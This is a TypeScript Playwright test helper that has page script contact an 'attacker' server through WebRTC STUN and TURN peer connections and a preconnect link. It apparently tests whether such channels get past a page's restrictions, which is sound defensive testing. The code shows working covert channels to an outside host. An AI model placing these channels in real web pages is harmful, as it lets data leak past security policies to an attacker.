import type { Page } from '@playwright/test';
import type { Attacker } from './attacker.ts';

/** How script in a page reaches a server by WebRTC. */
export type PeerServer = 'stun' | 'turn over UDP' | 'turn over TCP' | 'turn over TLS';

function addressOf(server: PeerServer, { tcp, udp }: Attacker): string {
  if (server === 'stun') return `stun:${udp}`;
  if (server === 'turn over UDP') return `turn:${udp}?transport=udp`;
  return `${server === 'turn over TCP' ? 'turn' : 'turns'}:${tcp}?transport=tcp`;
}

/**
 * Opens a peer connection in the page that names the attacker as its server, and leaves it open. Resolves when it has
 * asked by TCP, successfully or not, or when it has a socket to ask by UDP, or is told that it gets none.
 */
export async function askPeerServer(page: Page, server: PeerServer, attacker: Attacker): Promise<void> {
  await page.evaluate(
    async (address) => {
      const signIn = address.startsWith('stun:') ? {} : { username: 'stolen', credential: 'x' };
      const connection = new RTCPeerConnection({ iceServers: [{ urls: address, ...signIn }] });
      // One that nothing refers to may be collected before it has asked.
      Object.assign(window, { [`connection to ${address}`]: connection });
      connection.createDataChannel('stolen');
      const asked = new Promise<void>((resolve) => {
        connection.addEventListener('icegatheringstatechange', () => {
          if (connection.iceGatheringState === 'complete') resolve();
        });
        // A lost datagram is sent again for 40 seconds before gathering is complete; the first one leaves with the socket.
        if (!address.endsWith('=tcp')) connection.addEventListener('icecandidate', () => resolve());
      });
      await connection.setLocalDescription(await connection.createOffer());
      await asked;
    },
    addressOf(server, attacker),
  );
}

/** Has the page ask for a connection ahead of any request. */
export async function preconnect(page: Page, { url }: Attacker): Promise<void> {
  await page.evaluate((href) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href }));
  }, url);
}
